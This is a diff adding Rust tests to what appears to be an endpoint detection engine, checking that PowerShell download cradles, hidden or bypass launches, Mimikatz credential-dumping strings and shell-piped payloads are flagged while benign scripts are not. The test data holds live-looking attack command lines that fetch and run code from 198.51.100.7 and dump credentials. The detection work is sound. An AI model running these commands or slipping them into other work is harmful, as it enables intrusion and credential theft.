@@ -454,3 +454,100 @@ fn settings_that_make_no_sense_are_refused() {
         );
     }
 }
+
+#[test]
+fn hidden_code_past_the_policy_counts_like_hidden_code_without_a_profile() {
+    let mshta = r"C:\Windows\System32\mshta.exe";
+    let line = "powershell.exe -w hidden -ep bypass -c \"iwr http://198.51.100.7/x -OutFile x\"";
+    assert_eq!(found(behind(mshta), vec![started(line)]).len(), 1);
+    let file = "powershell.exe -w hidden -ep bypass -File C:\\Tools\\map.ps1";
+    assert!(found(behind(mshta), vec![started(file)]).is_empty());
+}
+
+#[test]
+fn a_cradle_past_the_policy_is_enough_where_it_names_credentials() {
+    let cmd = r"C:\Windows\System32\cmd.exe";
+    let line = |rest: &str| {
+        format!(
+            "powershell.exe -exec bypass -c \"IEX (New-Object Net.WebClient).DownloadString(\
+             'http://198.51.100.7/a'){rest}\""
+        )
+    };
+    let graver = line("; Invoke-Mimikatz -DumpCreds");
+    assert_eq!(found(behind(cmd), vec![started(&graver)]).len(), 1);
+    assert!(found(behind(cmd), vec![started(&line(""))]).is_empty());
+}
+
+#[test]
+fn code_that_a_shell_hands_over_is_read_from_the_shell() {
+    let cmd = r"C:\Windows\System32\cmd.exe";
+    let cradle = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')";
+    let shells = [
+        (
+            format!("cmd /c \"set x={cradle}&& powershell (ls env:x).Value|iex\""),
+            "powershell  (ls env:x).Value|iex",
+        ),
+        (
+            format!("cmd /c \"echo {cradle} | powershell -nop -\""),
+            "powershell  -nop -",
+        ),
+    ];
+    for (shell, line) in shells {
+        let event = started(line).set(field::PROCESS_PARENT_PROCESS_CMD_LINE, &shell);
+        assert_eq!(found(behind(cmd), vec![event]).len(), 1, "{shell}");
+    }
+    let harmless = started("powershell  -nop -").set(
+        field::PROCESS_PARENT_PROCESS_CMD_LINE,
+        "cmd /c \"type C:\\Scripts\\a.ps1 | powershell -nop -\"",
+    );
+    assert!(found(behind(cmd), vec![harmless]).is_empty());
+    // The Security log tells the parent's command line with the parent alone.
+    let world = World::new().process(
+        process(1)
+            .image(cmd)
+            .command_line(&format!("cmd /c \"echo {cradle} | powershell -nop -\"")),
+    );
+    let launched = started("powershell  -nop -");
+    let launched = launched.set(field::PROCESS_PARENT_PROCESS_HANDLE, 1);
+    assert_eq!(found(world, vec![launched]).len(), 1);
+}
+
+#[test]
+fn a_library_of_a_user_s_that_hosts_the_engine_in_a_program_of_windows_is_found() {
+    let image = r"C:\Windows\System32\rundll32.exe";
+    let line = r"rundll32.exe C:\Users\a\Downloads\x.dll,main";
+    let world = World::new().process(process(3).image(image).command_line(line));
+    assert_eq!(found(world, vec![loads(3, image, ENGINE)]).len(), 1);
+}
+
+#[test]
+fn the_log_is_read_although_lineage_knows_the_command_line_from_it() {
+    let engine = event(class::SCRIPT_ENGINE)
+        .by(5)
+        .set(field::METADATA_EVENT_CODE, 400)
+        .set(field::SCRIPT_HOST_APPLICATION, &cradle());
+    let world = World::new().process(process(5).command_line(&cradle()));
+    assert_eq!(found(world, vec![engine]).len(), 1);
+}
+
+#[test]
+fn a_script_of_nobody_is_judged_by_itself() {
+    let script = |text: &str| event(class::SCRIPT_EXECUTE).set(field::SCRIPT_CONTENT, text);
+    let loader = "$a = VirtualAlloc; [Reflection.Assembly]::Load($x)";
+    let secrets = "sekurlsa::logonpasswords";
+    let both = format!("{loader}; {secrets}");
+    assert_eq!(found(World::new(), vec![script(&both)]).len(), 1);
+    let apart = vec![script(loader), script(secrets)];
+    assert!(found(World::new(), apart).is_empty());
+}
+
+#[test]
+fn wrappers_of_remote_configuration_are_silent() {
+    let wrapper = "$x = $input | Out-String; $w = [ScriptBlock]::Create($x); &$w";
+    let line = encoded(
+        "-NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand",
+        wrapper,
+    );
+    let host = r"C:\Windows\System32\winrshost.exe";
+    assert!(found(behind(host), vec![started(&line)]).is_empty());
+}
